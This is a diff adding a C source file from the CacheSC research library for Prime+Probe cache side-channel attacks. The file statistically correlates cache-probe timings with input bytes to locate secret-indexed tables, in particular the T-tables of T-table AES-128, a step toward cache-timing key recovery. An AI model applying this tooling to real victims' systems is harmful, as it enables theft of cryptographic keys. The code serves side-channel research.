@@ -0,0 +1,259 @@
+/*
+ * This file is part of the CacheSC library (https://github.com/Miro-H/CacheSC),
+ * which implements Prime+Probe attacks on virtually and physically indexed
+ * caches.
+ *
+ * Copyright (C) 2020  Miro Haller
+ *
+ * This program is free software: you can redistribute it and/or modify
+ * it under the terms of the GNU General Public License as published by
+ * the Free Software Foundation, either version 3 of the License, or
+ * (at your option) any later version.
+ *
+ * This program is distributed in the hope that it will be useful,
+ * but WITHOUT ANY WARRANTY; without even the implied warranty of
+ * MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+ * GNU General Public License for more details.
+ *
+ * You should have received a copy of the GNU General Public License
+ * along with this program.  If not, see <https://www.gnu.org/licenses/>.
+ *
+ * Contact: miro.haller@alumni.ethz.ch
+ *
+ * Short description of this file:
+ * This file implements the discovery of secret-indexed tables from the
+ * dependence of the cache sets on the input bytes.
+ */
+
+#include <math.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "table_discovery.h"
+
+#define NIBBLE_IDX(prof, byte, nibble) ((byte) * INPUT_NIBBLES + (nibble))
+#define SET_IDX(prof, byte, nibble, set) \
+    (NIBBLE_IDX(prof, byte, nibble) * (prof)->sets + (set))
+
+// local functions
+double get_run_dependence(double *dep, uint32_t sets, uint32_t first_set,
+    uint32_t len);
+
+
+table_profile *prepare_table_profile(cache_ctx *ctx, uint32_t input_len) {
+    table_profile *prof = (table_profile *) malloc(sizeof(table_profile));
+    assert(prof);
+
+    prof->sets      = ctx->sets;
+    prof->input_len = input_len;
+    prof->samples   = 0;
+    prof->sum       = (double *) calloc(input_len * INPUT_NIBBLES * ctx->sets,
+                                        sizeof(double));
+    prof->sum_sq    = (double *) calloc(input_len * INPUT_NIBBLES * ctx->sets,
+                                        sizeof(double));
+    prof->cnt       = (uint64_t *) calloc(input_len * INPUT_NIBBLES, sizeof(uint64_t));
+    assert(prof->sum && prof->sum_sq && prof->cnt);
+
+    return prof;
+}
+
+void release_table_profile(table_profile *prof) {
+    free(prof->sum);
+    free(prof->sum_sq);
+    free(prof->cnt);
+    free(prof);
+}
+
+/*
+ * Accumulate the probe times `res` of all sets (as written by
+ * get_msrmts_for_all_set) of one victim run with the given input.
+ */
+void update_table_profile(table_profile *prof, const uint8_t *input,
+    time_type *res)
+{
+    uint32_t b, s, p;
+    double t;
+
+    for (b = 0; b < prof->input_len; ++b) {
+        p = input[b] >> 4;
+
+        for (s = 0; s < prof->sets; ++s) {
+            t = res[s];
+            prof->sum[SET_IDX(prof, b, p, s)]     += t;
+            prof->sum_sq[SET_IDX(prof, b, p, s)]  += t * t;
+        }
+        ++prof->cnt[NIBBLE_IDX(prof, b, p)];
+    }
+
+    ++prof->samples;
+}
+
+/*
+ * Store the dependence of every set on the upper nibble of input byte `byte`
+ * in `dep`, i.e. the F-statistic of the probe times grouped by the nibble.
+ */
+void get_input_dependence(table_profile *prof, uint32_t byte, double *dep) {
+    uint32_t s, p, groups;
+    uint64_t n, total;
+    double sum, mean, grand_mean, between, within;
+
+    for (s = 0; s < prof->sets; ++s) {
+        total       = 0;
+        grand_mean  = 0;
+        groups      = 0;
+
+        for (p = 0; p < INPUT_NIBBLES; ++p) {
+            total      += prof->cnt[NIBBLE_IDX(prof, byte, p)];
+            grand_mean += prof->sum[SET_IDX(prof, byte, p, s)];
+        }
+
+        if (total <= INPUT_NIBBLES) {
+            dep[s] = 0;
+            continue;
+        }
+        grand_mean /= total;
+
+        between = 0;
+        within  = 0;
+        for (p = 0; p < INPUT_NIBBLES; ++p) {
+            n = prof->cnt[NIBBLE_IDX(prof, byte, p)];
+            if (!n)
+                continue;
+
+            sum         = prof->sum[SET_IDX(prof, byte, p, s)];
+            mean        = sum / n;
+            between    += n * (mean - grand_mean) * (mean - grand_mean);
+            within     += prof->sum_sq[SET_IDX(prof, byte, p, s)] - sum * mean;
+            ++groups;
+        }
+
+        // Timings are integers, so assume at least the quantisation noise of 1/12
+        within  = within / (total - groups) + 1.0 / 12;
+        dep[s]  = (groups > 1) ? between / (groups - 1) / within : 0;
+    }
+}
+
+/*
+ * Locate a table of `table_lines` lines (if aligned) that is indexed by the
+ * given input bytes (xored with a secret). The run of consecutive sets with
+ * the highest mean dependence is taken; if a neighbouring set also depends
+ * on the input, the table is unaligned and its offset is estimated from the
+ * dependence of the two partially used lines.
+ */
+void discover_table(table_profile *prof, uint32_t *bytes, uint32_t bytes_len,
+    uint32_t table_lines, discovered_table *table)
+{
+    uint32_t i, s, best_first;
+    double run_dep, best_run_dep, first_excess, last_excess, prev_excess, next_excess;
+    double edge_min;
+
+    double *dep     = (double *) calloc(prof->sets, sizeof(double));
+    double *tmp_dep = (double *) malloc(prof->sets * sizeof(double));
+    assert(dep && tmp_dep);
+
+    // Average dependence on all bytes that index the table
+    for (i = 0; i < bytes_len; ++i) {
+        get_input_dependence(prof, bytes[i], tmp_dep);
+        for (s = 0; s < prof->sets; ++s)
+            dep[s] += tmp_dep[s] / bytes_len;
+    }
+
+    best_first      = 0;
+    best_run_dep    = -1;
+    for (s = 0; s < prof->sets; ++s) {
+        run_dep = get_run_dependence(dep, prof->sets, s, table_lines);
+        if (run_dep > best_run_dep) {
+            best_run_dep    = run_dep;
+            best_first      = s;
+        }
+    }
+
+    table->first_set    = best_first;
+    table->lines        = table_lines;
+    table->byte_offset  = 0;
+    table->strength     = best_run_dep;
+
+    // Independent sets have an F-statistic of about 1 with a variance of
+    // 2 / (nibbles - 1), which is reduced by averaging over the bytes
+    prev_excess = dep[(best_first + prof->sets - 1) % prof->sets] - 1;
+    next_excess = dep[(best_first + table_lines) % prof->sets] - 1;
+    edge_min    = fmax((best_run_dep - 1) * TABLE_EDGE_FRACTION,
+                       TABLE_EDGE_MIN_SIGMA * sqrt(2.0 / (INPUT_NIBBLES - 1) / bytes_len));
+
+    if (fmax(prev_excess, next_excess) > edge_min) {
+        if (prev_excess > next_excess)
+            table->first_set = (best_first + prof->sets - 1) % prof->sets;
+        table->lines = table_lines + 1;
+
+        // The first line holds the entries after the offset, the last line
+        // the rest. The dependence grows with the square of the fraction
+        // of accesses to a line.
+        first_excess    = fmax(dep[table->first_set] - 1, 0);
+        last_excess     = fmax(dep[(table->first_set + table_lines) % prof->sets] - 1, 0);
+        table->byte_offset = (uint32_t) round(CACHELINE_SIZE * sqrt(last_excess)
+                             / (sqrt(first_excess) + sqrt(last_excess)));
+        table->byte_offset = table->byte_offset % CACHELINE_SIZE;
+    }
+
+    free(dep);
+    free(tmp_dep);
+}
+
+/*
+ * Cache set of block `block` of a discovered table (blocks have the size of a
+ * cache line). For unaligned tables, a block spans two lines and the line of
+ * its middle is used, as in get_aes_ttable_map.
+ */
+uint32_t get_table_block_set(table_profile *prof, discovered_table *table,
+    uint32_t block)
+{
+    uint32_t shift = (table->byte_offset >= CACHELINE_SIZE / 2) ? 1 : 0;
+
+    return (table->first_set + block + shift) % prof->sets;
+}
+
+/*
+ * Discover the tables Te0, ..., Te3 of T-table AES-128 (with the plaintext
+ * as input), where Te(t) is indexed by the bytes t, t + 4, t + 8, t + 12
+ * in the first round.
+ */
+void discover_aes_ttables(table_profile *prof, aes_ttable_map *map,
+    discovered_table *tables)
+{
+    uint32_t bytes[AES_KEY_LEN / AES_TTABLES];
+
+    for (uint32_t t = 0; t < AES_TTABLES; ++t) {
+        for (uint32_t i = 0; i < AES_KEY_LEN / AES_TTABLES; ++i)
+            bytes[i] = t + i * AES_TTABLES;
+
+        discover_table(prof, bytes, AES_KEY_LEN / AES_TTABLES, AES_TTABLE_BLOCKS,
+                       tables + t);
+
+        for (uint32_t n = 0; n < AES_TTABLE_BLOCKS; ++n)
+            map->sets[t][n] = get_table_block_set(prof, tables + t, n);
+    }
+}
+
+/*
+ * Fancy print a discovered table
+ */
+void print_discovered_table(discovered_table *table) {
+    printf("discovered_table = {\n\tfirst_set: %u,\n\tlines: %u,\n\t"
+           "byte_offset: %u,\n\tstrength: %.2f\n}\n",
+           table->first_set, table->lines, table->byte_offset, table->strength);
+}
+
+/*
+ * Mean dependence of `len` consecutive sets (wrapping around)
+ */
+double get_run_dependence(double *dep, uint32_t sets, uint32_t first_set,
+    uint32_t len)
+{
+    double sum = 0;
+
+    for (uint32_t i = 0; i < len; ++i)
+        sum += dep[(first_set + i) % sets];
+
+    return sum / len;
+}